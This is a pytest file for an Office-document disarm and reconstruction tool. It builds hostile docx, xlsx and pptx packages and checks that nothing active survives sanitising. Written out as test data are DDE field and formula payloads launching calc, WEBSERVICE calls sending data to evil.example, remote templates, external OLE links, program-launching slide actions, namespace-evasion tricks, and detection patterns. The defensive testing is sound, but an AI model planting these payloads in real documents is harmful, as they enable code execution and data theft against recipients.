"""Hostile OOXML aimed at the fast paths of the rebuild and its verifier (commits 6abffa3,
b69030f): attributes are read only on elements holding one in a declared relationship or
unknown namespace (found by XPath name tests over the namespaces iterparse reported), the
root's vocabulary is read 1 KiB at a time, and the field and formula passes skip the tags
the part never had.

Every package goes through ``cli.py sanitize`` (one batch, one subprocess), and every
released output is read back by an allow-list inspector written here, independent of cdr:
only known relationship types, no external relationship but a web or mail hyperlink, no
VBA/OLE/ActiveX/alternative-chunk/sub-document/template part or element, every ``r:*``
attribute (under any prefix, transitional or strict URI) naming an internal relationship of
its part (or an allowed hyperlink), no active field code, formula or presentation action.
Quarantine (fail closed) is always acceptable; a release must pass the inspector. The
verifier's own fast path is also given references planted straight into clean packages.

Run against the tree before 6abffa3 (6abffa3~1), every case had the same verdict and, but
for the creation time openpyxl writes, the same output bytes: nothing crosses, so no case
is an xfail. The one difference: a part in no known vocabulary whose XML breaks after its
first kilobyte is now left out and the file released (it was held as malformed); nothing of
the part reaches the output.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from lxml import etree

from cdr.model import FileType
from cdr.ooxml_attributes import parse_declaring, tags_needing_a_look
from cdr.policy import load_policy
from cdr.sanitizers.ooxml_content import _HARMLESS_ATTRIBUTES as SANITIZER_HARMLESS
from cdr.sanitizers.ooxml_package import _HARDENED
from cdr.verifiers import VerifyContext, verify_structure
from cdr.verifiers.ooxml_xml import _HARMLESS_ATTRIBUTES as VERIFIER_HARMLESS
from tests import office_builders as ob
from tests.attacks import runner
from tests.conftest import ROOT

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
R_STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MC = "http://schemas.openxmlformats.org/markup-compatibility/2006"
VML_O = "urn:schemas-microsoft-com:office:office"
VML_V = "urn:schemas-microsoft-com:vml"
EVIL = "https://evil.example/x"
CALC = ob.CALC
POLICY = load_policy(ROOT / "policies" / "default.yaml")

# ---------------------------------------------------------------- the inspector
_SAFE_TYPES = frozenset({
    "officeDocument", "styles", "stylesWithEffects", "settings", "webSettings", "fontTable", "theme", "numbering",
    "footnotes", "endnotes", "header", "footer", "image", "hyperlink", "core-properties", "metadata/core-properties",
    "extended-properties", "custom-properties", "metadata/thumbnail", "worksheet", "sharedStrings", "drawing",
    "chart", "slide", "slideLayout", "slideMaster", "presProps", "viewProps", "tableStyles", "comments",
    "vmlDrawing", "table", "notesSlide", "notesMaster", "handoutMaster", "tags", "commentAuthors", "calcChain",
    "customXml", "customXmlProps", "glossaryDocument", "people", "commentsExtended", "commentsIds",
})  # fmt: skip
_BAD_PART = re.compile(r"vba|\.bin$|embeddings/|activex|oleobject|\.dotm$|afchunk|\.mht|\.html?$", re.I)
_BAD_ELEMENTS = frozenset({
    "object", "control", "altChunk", "subDoc", "attachedTemplate", "OLEObject", "oleObj", "oleObjects",
    "controls", "externalReferences", "docVars", "mailMerge", "dataSource", "fldData",
})  # fmt: skip
_KNOWN_URIS = (
    "http://schemas.openxmlformats.org/", "http://purl.oclc.org/ooxml/", "http://schemas.microsoft.com/office/",
    "urn:schemas-microsoft-com:", "http://www.w3.org/XML/1998/namespace", "http://purl.org/dc/",
    "http://www.w3.org/2001/XMLSchema-instance",
)  # fmt: skip
_LINKS = frozenset({"hyperlink", "hlinkClick", "hlinkHover", "hlinkMouseOver"})
_BAD_FIELD = re.compile(r"DDE|INCLUDE|IMPORT|\bLINK\b|MACROBUTTON|AUTOTEXT|\\\\\\\\|file:|\bcmd\b|calc", re.I)
_BAD_FORMULA = re.compile(r"WEBSERVICE|FILTERXML|\bCALL\b|REGISTER|EXEC|\bRTD\b|\||\[|\\\\|file:|cmd", re.I)
_SAFE_ACTION = re.compile(r"ppaction://(hlinkshowjump\?jump=\w+|hlinksldjump|noaction)", re.I)


def _rels(parts: dict[str, bytes], part: str) -> dict[str, tuple[str, str, bool]]:
    folder, name = part.rsplit("/", 1) if "/" in part else ("", part)
    body = parts.get(f"{folder}/_rels/{name}.rels".lstrip("/"))
    if body is None:
        return {}
    root = etree.fromstring(body)
    return {r.get("Id"): (r.get("Type", ""), r.get("Target", ""), r.get("TargetMode") == "External") for r in root}


def problems(data: bytes) -> list[str]:
    """Everything in a released package this allow-list does not accept; [] when clean."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    found = [f"part {name}" for name in parts if _BAD_PART.search(name)]
    parser = etree.XMLParser(resolve_entities=False, load_dtd=False, no_network=True, huge_tree=True)
    for name, body in parts.items():
        if not name.endswith((".xml", ".rels", ".vml")):
            continue
        root = etree.fromstring(body, parser)
        if root.getroottree().docinfo.internalDTD is not None:
            found.append(f"{name}: DTD")
        if name.endswith(".rels"):
            for rel in root:
                kind = rel.get("Type", "").split("/relationships/", 1)[-1]
                if kind not in _SAFE_TYPES:
                    found.append(f"{name}: relationship type {kind}")
                target = rel.get("Target", "")
                if rel.get("TargetMode") == "External" and not (
                    kind == "hyperlink" and target.lower().startswith(("http://", "https://", "mailto:"))
                ):
                    found.append(f"{name}: external {kind} {target}")
            continue
        found += _part_problems(name, root, _rels(parts, name))
    return found


def _part_problems(name: str, root: etree._Element, rels: dict[str, tuple[str, str, bool]]) -> list[str]:
    found = []
    instructions: list[str] = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        qname = etree.QName(element)
        if qname.namespace and not qname.namespace.startswith(_KNOWN_URIS):
            found.append(f"{name}: element in {qname.namespace}")
        if qname.localname in _BAD_ELEMENTS:
            found.append(f"{name}: element {qname.localname}")
        if qname.localname in ("instrText", "delInstrText"):
            instructions.append(element.text or "")
        if qname.localname in ("f", "formula", "formula1", "formula2", "definedName") and _BAD_FORMULA.search(
            element.text or ""
        ):
            found.append(f"{name}: formula {element.text!r}")
        for attribute, value in element.attrib.items():
            attr = etree.QName(attribute)
            if attr.namespace and not attr.namespace.startswith(_KNOWN_URIS):
                found.append(f"{name}: attribute in {attr.namespace}")
            if attr.namespace in (R, R_STRICT):
                rel = rels.get(value)
                if rel is None:
                    found.append(f"{name}: {qname.localname} r:{attr.localname}={value} names nothing")
                elif rel[2] and qname.localname not in _LINKS:
                    found.append(f"{name}: {qname.localname} names external {rel[1]}")
            if attr.localname == "instr":
                instructions.append(value)
            if attr.localname == "action" and value and not _SAFE_ACTION.fullmatch(value):
                found.append(f"{name}: action {value}")
            if attr.localname in ("src", "href") and qname.namespace and qname.namespace.startswith("urn:schemas"):
                found.append(f"{name}: VML {attr.localname}={value}")
    joined = "|".join(instructions)
    if _BAD_FIELD.search(joined):
        found.append(f"{name}: field {joined[:120]!r}")
    return found


# ---------------------------------------------------------------- builders
def _docx(body: str = "", rels: tuple[tuple[str, str, str, bool], ...] = (), extra: Callable | None = None) -> bytes:
    package = ob.Package(ob.docx_bytes())
    package.body_append(f"<w:p>{ob._run(ob.MARK)}</w:p>{body}")
    for rel_id, kind, target, external in rels:
        package.add_rel("word/_rels/document.xml.rels", rel_id, kind, target, external)
    if extra:
        extra(package)
    return package.bytes()


def _blip(attribute: str) -> Callable[[], bytes]:
    """The picture's blip names an external image (Word fetches it on open) through ``attribute``."""

    def build() -> bytes:
        def swap(package: ob.Package) -> None:
            document = package.text("word/document.xml")
            package.put("word/document.xml", document.replace('<a:blip r:embed="rId9"/>', f"<a:blip {attribute}/>"))

        return _docx(rels=(("rIdExt", f"{R}/image", f"{EVIL}.png", True),), extra=swap)

    return build


def _with_parts(package: ob.Package) -> None:
    package.put("word/vbaProject.bin", ob.real_vba_project())
    package.put("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 60)
    package.add_rel("word/_rels/document.xml.rels", "rIdVba", f"{ob.VBA_REL}", "vbaProject.bin")
    package.add_rel("word/_rels/document.xml.rels", "rIdOle", f"{R}/oleObject", "embeddings/oleObject1.bin")
    package.content_type("/word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject")


_TPL = ("rIdTpl", f"{R}/attachedTemplate", "https://evil.example/t.dotm", True)
_EXT_OLE = ("rIdFol", f"{R}/oleObject", "mhtml:http://evil.example/x.html!x", True)
_EXT_LINK = ("rIdBad", f"{R}/hyperlink", "file://///evil.example/share/calc.exe", True)


def _ole_in(wrapper: str) -> Callable[[], bytes]:
    body = (
        f'<w:p><w:r><w:object><o:OLEObject xmlns:o="{VML_O}" Type="Link" ProgID="htmlfile" ShapeID="s1" '
        f'{wrapper} UpdateMode="OnCall"/></w:object></w:r></w:p>'
    )
    return lambda: _docx(body, rels=(_EXT_OLE,))


def _field(body: str) -> Callable[[], bytes]:
    return lambda: _docx(f"<w:p>{body}</w:p>")


def _complex(*pieces: str, namespace: str = "") -> str:
    begin, sep, end = ob._char("begin"), ob._char("separate"), ob._char("end")
    tag = "y:instrText" if namespace else "w:instrText"
    extra = f' xmlns:y="{namespace}"' if namespace else ""
    return begin + "".join(ob._instr(piece, tag, extra) for piece in pieces) + sep + ob._run("cached") + end


def _document_bytes(transform: Callable[[str], bytes]) -> Callable[[], bytes]:
    """document.xml rewritten whole (an encoding, a long root start tag …), with an external picture link planted."""

    def build() -> bytes:
        package = ob.Package(_blip(f'xmlns:x="{R}" x:link="rIdExt"')())
        package.put("word/document.xml", transform(package.text("word/document.xml")))
        return package.bytes()

    return build


def _utf16(text: str) -> bytes:
    return text.replace("encoding='UTF-8'", "encoding='UTF-16'").encode("utf-16")


def _long_root(text: str) -> bytes:
    many = " ".join(f'xmlns:z{i}="urn:pad:{i}"' for i in range(60))
    text = text.replace("<w:document ", f"<!-- {'c' * 1500} --><?pi {'p' * 1500}?><w:document {many} ", 1)
    return text.encode()


def _bom(text: str) -> bytes:
    return b"\xef\xbb\xbf" + text.encode()


def _error_then_root(text: str) -> bytes:
    return (text.replace("</w:body>", "</w:body><w:p>", 1) + f'<evil xmlns="urn:e" xmlns:r="{R}" r:id="rIdExt"/>').encode()


def _doctype(text: str) -> bytes:
    """The link is not written on the blip: a DTD default adds it, with its own xmlns:x."""
    text = re.sub(r"<a:blip [^>]*/>", "<a:blip/>", text)
    dtd = f'<!DOCTYPE w:document [<!ATTLIST a:blip xmlns:x CDATA #FIXED "{R}" x:link CDATA "rIdExt">]>'
    return text.replace("?>", "?>" + dtd, 1).encode()


def _broken_header(package: ob.Package) -> None:
    """A header in no known vocabulary, its XML broken 3 KiB in: root_tag names the root from the
    first kilobyte, so the part is left out (before 6abffa3 the whole file was held as malformed)."""
    package.put("word/header9.xml", b'<evil xmlns="urn:e"><a>' + b"<b>x</b>" * 400 + b"</c>")
    package.add_rel("word/_rels/document.xml.rels", "rIdH", f"{R}/header", "header9.xml")
    package.content_type("/word/header9.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml")


def _xlsx(formula_xml: str, names: str = "") -> Callable[[], bytes]:
    def build() -> bytes:
        package = ob.Package(ob.xlsx_bytes())
        sheet = package.text("xl/worksheets/sheet1.xml")
        package.put("xl/worksheets/sheet1.xml", sheet.replace("</sheetData>", f'<row r="9">{formula_xml}</row></sheetData>'))
        if names:
            package.put("xl/workbook.xml", package.text("xl/workbook.xml").replace("<definedNames/>", names))
        return package.bytes()

    return build


def _pptx_click(attributes: str, target: str = "https://example.org/", external: bool = True) -> Callable[[], bytes]:
    def build() -> bytes:
        package = ob.Package(ob.pptx_bytes())
        package.add_rel("ppt/slides/_rels/slide1.xml.rels", "rIdAct", f"{R}/hyperlink", target, external)
        slide = package.text("ppt/slides/slide1.xml")
        package.put(
            "ppt/slides/slide1.xml",
            slide.replace('name="Title 1"/>', f'name="Title 1"><a:hlinkClick {attributes}/></p:cNvPr>', 1),
        )
        return package.bytes()

    return build


# name → builder
CASES: dict[str, Callable[[], bytes]] = {
    "control-plain-docx": lambda: _docx(),
    # relationship attributes under other spellings
    "blip-link-other-prefix": _blip(f'xmlns:x="{R}" x:link="rIdExt"'),
    "blip-embed-other-prefix": _blip(f'xmlns:x="{R}" x:embed="rIdExt"'),
    "blip-link-strict-uri": _blip(f'xmlns:s="{R_STRICT}" s:link="rIdExt"'),
    "blip-link-prefix-rebound-to-r": _blip(f'xmlns:r="{R}" r:link="rIdExt"'),
    "blip-r-rebound-elsewhere-then-back": lambda: _docx(
        f'<w:p xmlns:r="urn:not-r"><w:r xmlns:r="{R}"><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/'
        'drawingml/2006/main" r:link="rIdExt"/></w:drawing></w:r></w:p>',
        rels=(("rIdExt", f"{R}/image", f"{EVIL}.png", True),),
    ),
    "default-namespace-bound-to-r": lambda: _docx(
        f'<w:p><w:hyperlink xmlns="{R}" id="rIdBad">{ob._run("link words")}</w:hyperlink></w:p>', rels=(_EXT_LINK,)
    ),
    "hyperlink-file-other-prefix": lambda: _docx(
        f'<w:p><w:hyperlink xmlns:q="{R}" q:id="rIdBad">{ob._run("link words")}</w:hyperlink></w:p>', rels=(_EXT_LINK,)
    ),
    "hyperlink-file-declared-on-p": lambda: _docx(
        f'<w:p xmlns:q="{R_STRICT}"><w:hyperlink q:id="rIdBad">{ob._run("link words")}</w:hyperlink></w:p>',
        rels=(_EXT_LINK,),
    ),
    "r-attributes-on-plain-elements": lambda: _docx(
        f'<w:p xmlns:x="{R}" x:id="rIdVba"><w:r x:embed="rIdOle"><w:t x:dm="rIdVba" x:lo="rIdOle" x:qs="rIdTpl" '
        'x:cs="rIdFol" x:pict="rIdOle" x:href="rIdFol">words</w:t></w:r></w:p>',
        rels=(_TPL, _EXT_OLE),
        extra=_with_parts,
    ),
    "r-attribute-on-root": lambda: _docx(
        extra=lambda p: p.put(
            "word/document.xml", p.text("word/document.xml").replace("<w:document ", '<w:document r:id="rIdFol" ', 1)
        ),
        rels=(_EXT_OLE,),
    ),
    "attached-template-other-prefix": lambda: _docx(
        extra=lambda p: (
            p.add_rel("word/_rels/settings.xml.rels", *_TPL),
            p.put(
                "word/settings.xml",
                re.sub(
                    r"(<w:settings[^>]*>)",
                    lambda m: m.group(1) + f'<w:attachedTemplate xmlns:t="{R_STRICT}" t:id="rIdTpl"/>',
                    p.text("word/settings.xml"),
                    count=1,
                ),
            ),
        )
    ),
    # namespace declarations read differently
    "declared-past-200k": lambda: _docx(
        "".join(f"<w:p>{ob._run(f'filler {i} ' * 8)}</w:p>" for i in range(2500))
        + f'<w:p><w:hyperlink xmlns:late="{R}" late:id="rIdBad">{ob._run("late")}</w:hyperlink>'
        f'<w:r xmlns:ev="urn:late-evil" ev:onload="calc"><w:t>t</w:t></w:r></w:p>',
        rels=(_EXT_LINK,),
    ),
    "hyperlink-javascript-strict-uri": lambda: _docx(
        f'<w:p><w:hyperlink xmlns:s="{R_STRICT}" s:id="rIdJs">{ob._run("js")}</w:hyperlink></w:p>',
        rels=(("rIdJs", f"{R_STRICT}/hyperlink", "javascript:alert(1)", True),),
    ),
    "choice-requires-unknown-declared-deep": lambda: _docx(
        f'<w:p><w:r><mc:AlternateContent xmlns:mc="{MC}"><mc:Choice xmlns:ev="urn:evil" Requires="ev">'
        f'<w:object><o:OLEObject xmlns:o="{VML_O}" xmlns:x="{R}" x:id="rIdFol" Type="Link"/></w:object></mc:Choice>'
        f"<mc:Fallback>{ob._run('fb')}</mc:Fallback></mc:AlternateContent></w:r></w:p>",
        rels=(_EXT_OLE,),
    ),
    "same-uri-two-prefixes": lambda: _docx(
        f'<w:p xmlns:a1="{R}" xmlns:a2="{R}"><w:hyperlink a1:id="rIdBad" a2:embed="rIdFol">{ob._run("x")}</w:hyperlink></w:p>',
        rels=(_EXT_LINK, _EXT_OLE),
    ),
    "r-uri-case-and-slash": lambda: _docx(
        f'<w:p xmlns:u="{R.upper()}" xmlns:s="{R}/"><w:hyperlink u:id="rIdBad" s:id="rIdBad">{ob._run("x")}'
        "</w:hyperlink></w:p>",
        rels=(_EXT_LINK,),
    ),
    "xml-base-on-hyperlink": lambda: _docx(
        f'<w:p><w:hyperlink xml:base="file://///evil.example/share/" r:id="rIdRel">{ob._run("x")}</w:hyperlink></w:p>',
        rels=(("rIdRel", f"{R}/hyperlink", "calc.exe", True),),
    ),
    "xmlns-xml-rebound": lambda: _docx(
        f'<w:p xmlns:xml="{R}"><w:hyperlink xml:id="rIdBad">{ob._run("x")}</w:hyperlink></w:p>', rels=(_EXT_LINK,)
    ),
    "doctype-default-attribute": _document_bytes(_doctype),
    "utf16-part": _document_bytes(_utf16),
    "bom-part": _document_bytes(_bom),
    "root-start-tag-past-1k": _document_bytes(_long_root),
    "xml-error-then-second-root": _document_bytes(_error_then_root),
    "unknown-root-header-broken-after-1k": lambda: _docx(extra=_broken_header),
    # markup compatibility and active content
    "choice-w14-ole": _ole_in(f'xmlns:x="{R}" x:id="rIdFol"'),
    "alternate-content-control": lambda: _docx(
        f'<w:p><w:r><mc:AlternateContent xmlns:mc="{MC}"><mc:Choice Requires="w14"><w:object><w:control '
        f'xmlns:k="{R}" k:id="rIdOle" w:name="x"/></w:object></mc:Choice><mc:Fallback>{ob._run("fb")}</mc:Fallback>'
        "</mc:AlternateContent></w:r></w:p>",
        extra=_with_parts,
    ),
    "ignorable-unknown-ole": lambda: _docx(
        f'<w:p xmlns:ev="urn:evil" xmlns:mc="{MC}" mc:Ignorable="ev" mc:ProcessContent="ev:wrap" '
        f'mc:MustUnderstand=""><ev:wrap><w:r><w:object><o:OLEObject xmlns:o="{VML_O}" xmlns:x="{R}" '
        'x:id="rIdOle" Type="Embed" ProgID="Package"/></w:object></w:r></ev:wrap></w:p>',
        extra=_with_parts,
    ),
    "unknown-namespace-with-r-id": lambda: _docx(
        '<w:p><w:r xmlns:ev="urn:evil" ev:x="1"><w:t ev:y="2">kept</w:t></w:r><ev2:ole xmlns:ev2="urn:evil2" '
        'r:id="rIdOle"/></w:p>',
        extra=_with_parts,
    ),
    "vml-imagedata-external": lambda: _docx(
        f'<w:p><w:r><w:pict><v:shape xmlns:v="{VML_V}"><v:imagedata xmlns:y="{R}" y:id="rIdExt" '
        'o:href="file://///evil/x.png" src="https://evil.example/x.png"/></v:shape></w:pict></w:r></w:p>',
        rels=(("rIdExt", f"{R}/image", f"{EVIL}.png", True),),
    ),
    "vml-oleobject-r-id": lambda: _docx(
        f'<w:p><w:r><w:pict><o:OLEObject xmlns:z="{R_STRICT}" z:id="rIdOle" Type="Embed"/></w:pict></w:r></w:p>',
        extra=_with_parts,
    ),
    "altchunk-subdoc-other-prefix": lambda: _docx(
        f'<x:altChunk xmlns:x="{W}" xmlns:y="{R}" y:id="rIdFol"/><w:p><w:subDoc xmlns:y="{R}" y:id="rIdTpl"/></w:p>',
        rels=(_EXT_OLE, _TPL),
    ),
    # fields
    "fldsimple-includetext": _field(
        '<w:fldSimple xmlns:q="' + W + '" q:instr=" INCLUDETEXT &quot;\\\\\\\\evil\\\\s\\\\a.docx&quot; ">'
        + ob._run("inc")
        + "</w:fldSimple>"
    ),
    "instr-split-deep-prefix": _field(_complex(" DD", "EAUTO ", CALC, namespace=W)),
    "instr-only-under-other-prefix": lambda: _docx(
        f'<w:p xmlns:y="{W}"><y:r><y:fldChar y:fldCharType="begin"/></y:r><y:r><y:instrText> DDEAUTO {CALC}'
        '</y:instrText></y:r><y:r><y:fldChar y:fldCharType="end"/></y:r></w:p>'
    ),
    "instr-strict-namespace": lambda: _docx(
        '<w:p xmlns:y="http://purl.oclc.org/ooxml/wordprocessingml/main"><y:r><y:fldChar y:fldCharType="begin"/>'
        f'</y:r><y:r><y:instrText> DDEAUTO {CALC}</y:instrText></y:r><y:r><y:fldChar y:fldCharType="end"/></y:r></w:p>'
    ),
    "instr-without-fldchar": _field(ob._instr(" DDEAUTO " + CALC)),
    # spreadsheets
    "xlsx-webservice": _xlsx('<c r="A9"><f>WEBSERVICE("https://evil.example/?"&amp;A1)</f><v>1</v></c>'),
    "xlsx-hyperlink-file": _xlsx('<c r="A9"><f>HYPERLINK("file://///evil/share/calc.exe","x")</f><v>1</v></c>'),
    "xlsx-dde": _xlsx("<c r=\"A9\"><f>cmd|' /C calc'!A0</f><v>1</v></c>"),
    "xlsx-formula-other-prefix": _xlsx(
        "<c r=\"A9\"><q:f xmlns:q=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">cmd|' /C calc'!A0"
        "</q:f><v>1</v></c>"
    ),
    "xlsx-defined-name-external": _xlsx(
        "", "<definedNames><definedName name=\"x\">'\\\\evil\\share\\[b.xlsx]S'!A1</definedName>"
        '<definedName name="y">[1]Sheet1!A1</definedName></definedNames>'
    ),
    # presentations
    "pptx-program-action": _pptx_click('r:id="rIdAct" action="ppaction://program"', "calc.exe", True),
    "pptx-program-action-other-prefix": _pptx_click(
        f'xmlns:x="{R_STRICT}" x:id="rIdAct" action="ppaction://program"', "file:///C:/Windows/calc.exe", True
    ),
    "pptx-hlinkfile-action": _pptx_click('r:id="rIdAct" action="ppaction://hlinkfile"', "file:///C:/x.exe", True),
    "pptx-macro-action": _pptx_click('r:id="" action="ppaction://macro?name=Auto_Open"'),
}


# ---------------------------------------------------------------- the run
@pytest.fixture(scope="module")
def batch(tmp_path_factory: pytest.TempPathFactory) -> runner.Batch:
    folder = tmp_path_factory.mktemp("fastpath")
    names = []
    for name, build in CASES.items():
        suffix = ".xlsx" if name.startswith("xlsx") else ".pptx" if name.startswith("pptx") else ".docx"
        (folder / f"{name}{suffix}").write_bytes(build())
        names.append(f"{name}{suffix}")
    return runner.sanitize(folder, names, timeout=300)


def _result(batch: runner.Batch, name: str) -> tuple[str, Path | None]:
    file = next(n for n in batch.results if n.rsplit(".", 1)[0] == name)
    return batch.results[file].get("verdict", ""), batch.output(file)


def test_the_plain_control_is_released_and_the_inspector_finds_nothing(batch: runner.Batch) -> None:
    verdict, output = _result(batch, "control-plain-docx")
    assert verdict == "released" and output is not None, batch.results
    assert problems(output.read_bytes()) == []


def test_the_inspector_catches_what_it_is_for() -> None:
    assert any("external image" in p or "names external" in p for p in problems(_blip(f'xmlns:x="{R}" x:link="rIdExt"')()))
    assert any("field" in p for p in problems(_field(_complex(" DD", "EAUTO ", CALC, namespace=W))()))
    assert any("formula" in p for p in problems(_xlsx('<c r="A9"><f>WEBSERVICE("x")</f></c>')()))
    assert any("action" in p for p in problems(_pptx_click('r:id="rIdAct" action="ppaction://program"')()))


@pytest.mark.parametrize("name", [n for n in CASES if n != "control-plain-docx"])
def test_nothing_active_crosses(batch: runner.Batch, name: str) -> None:
    verdict, output = _result(batch, name)
    assert verdict in ("released", "quarantined"), batch.results
    if output is not None:
        assert problems(output.read_bytes()) == []
        if output.suffix == ".docx":  # what was planted went, the document's words did not
            with zipfile.ZipFile(output) as package:
                assert ob.MARK in package.read("word/document.xml").decode("utf-8")


def test_every_hostile_input_is_one_the_inspector_refuses() -> None:
    """No case is vacuous: before the rebuild, each package holds what the inspector refuses
    (or is not even well-formed XML)."""
    for name, build in CASES.items():
        if name == "control-plain-docx":
            continue
        try:
            found = problems(build())
        except etree.XMLSyntaxError:
            continue
        assert found, name


# ---------------------------------------------------------------- the verifier alone
# The verifier must stand even if a rebuild let something through, so its own fast path is
# given references and attributes planted straight into a clean package: each must be named.
NOWHERE = "rIdNowhere"


def _clean_with(part: str, transform: Callable[[str], str]) -> bytes:
    kinds = {"word": ob.docx_bytes, "xl": ob.xlsx_bytes, "ppt": ob.pptx_bytes}
    package = ob.Package(kinds[part.split("/", 1)[0]]())
    package.put(part, transform(package.text(part)))
    return package.bytes()


def _in_body(xml: str) -> Callable[[], bytes]:
    return lambda: _clean_with("word/document.xml", lambda text: text.replace("<w:sectPr", xml + "<w:sectPr", 1))


def _on_root(declarations: str, body: str) -> Callable[[], bytes]:
    def edit(text: str) -> str:
        return text.replace("<w:document ", f"<w:document {declarations} ", 1).replace("<w:sectPr", body + "<w:sectPr", 1)

    return lambda: _clean_with("word/document.xml", edit)


def _utf16_verifier() -> bytes:
    package = ob.Package(_in_body(f'<w:p xmlns:x="{R}" x:id="{NOWHERE}"/>')())
    package.put("word/document.xml", _utf16(package.text("word/document.xml")))
    return package.bytes()


VERIFIER_CASES: dict[str, tuple[Callable[[], bytes], str]] = {
    "other-prefix-on-paragraph": (_in_body(f'<w:p xmlns:x="{R}" x:id="{NOWHERE}"/>'), "ooxml-reference"),
    "strict-uri-on-run": (_in_body(f'<w:p><w:r xmlns:s="{R_STRICT}" s:embed="{NOWHERE}"/></w:p>'), "ooxml-reference"),
    "prefix-rebound-in-child": (
        _in_body(f'<w:p xmlns:r="urn:not-r"><w:r xmlns:r="{R}" r:link="{NOWHERE}"/></w:p>'),
        "ooxml-reference",
    ),
    "declared-on-root-used-deep": (_on_root(f'xmlns:zz="{R}"', f'<w:p><w:r><w:t zz:dm="{NOWHERE}">t</w:t></w:r></w:p>'),
                                   "ooxml-reference"),  # fmt: skip
    "unknown-declared-on-root-used-deep": (
        _on_root('xmlns:ev="urn:evil"', '<w:p><w:r><w:t ev:onload="calc">t</w:t></w:r></w:p>'),
        "ooxml-namespace",
    ),
    "same-uri-second-prefix": (_on_root(f'xmlns:r2="{R}"', f'<w:p r2:id="{NOWHERE}"/>'), "ooxml-reference"),
    "r-attribute-on-root": (_on_root(f'r:id="{NOWHERE}"', ""), "ooxml-reference"),
    "utf16-part": (_utf16_verifier, "ooxml-reference"),
    "root-past-1k": (
        _on_root(" ".join(f'xmlns:z{i}="{R}"' for i in range(80)), f'<w:p z79:id="{NOWHERE}"/>'),
        "ooxml-reference",
    ),
    "declared-past-200k": (
        _in_body(
            "".join(f"<w:p>{ob._run(f'filler {i} ' * 8)}</w:p>" for i in range(2500))
            + f'<w:p xmlns:late="{R}" late:id="{NOWHERE}"/>'
        ),
        "ooxml-reference",
    ),
    "xlsx-cell-other-prefix": (
        lambda: _clean_with("xl/worksheets/sheet1.xml", lambda t: t.replace('<c r="B4">', f'<c r="B4" xmlns:x="{R}" x:id="{NOWHERE}">')),
        "ooxml-reference",
    ),
    "pptx-click-other-prefix": (
        lambda: _clean_with(
            "ppt/slides/slide1.xml",
            lambda t: t.replace('name="Title 1"/>', f'name="Title 1"><a:hlinkClick xmlns:x="{R_STRICT}" x:id="{NOWHERE}"/></p:cNvPr>', 1),
        ),
        "ooxml-reference",
    ),
}


@pytest.mark.parametrize("name", list(VERIFIER_CASES))
def test_the_verifier_names_what_was_planted(name: str) -> None:
    build, kind = VERIFIER_CASES[name]
    package = build()
    file_type = FileType.XLSX if name.startswith("xlsx") else FileType.PPTX if name.startswith("pptx") else FileType.DOCX
    found = verify_structure(file_type, io.BytesIO(package), VerifyContext(POLICY, name))
    assert kind in {finding.kind for finding in found}, found
    assert NOWHERE in str(found) or "urn:evil" in str(found), found


def test_the_name_tests_find_exactly_the_elements_a_look_at_every_attribute_finds() -> None:
    """The fast path against the slow one it replaced, on every part of every package here:
    the elements holding an attribute outside each side's harmless namespaces, found by the
    XPath name tests over the declared namespaces, are exactly those found by reading every
    attribute of every element; and the tree is the one ``etree.fromstring`` builds."""
    packages = [build() for build in CASES.values()] + [build() for build, _kind in VERIFIER_CASES.values()]
    compared = 0
    for data in packages:
        with zipfile.ZipFile(io.BytesIO(data)) as package:
            bodies = [package.read(n) for n in package.namelist() if n.endswith((".xml", ".rels"))]
        for body in bodies:
            try:
                root, declared = parse_declaring(body, **_HARDENED)
            except etree.XMLSyntaxError:
                continue
            assert etree.tostring(root) == etree.tostring(etree.fromstring(body, etree.XMLParser(**_HARDENED)))
            for harmless in (SANITIZER_HARMLESS, VERIFIER_HARMLESS):
                slow = {
                    element.tag
                    for element in root.iter()
                    if any(name.startswith("{") and name[1:].split("}")[0] not in harmless for name in element.attrib)
                }
                assert tags_needing_a_look(root, declared, harmless) == slow
                compared += 1
    assert compared > 500
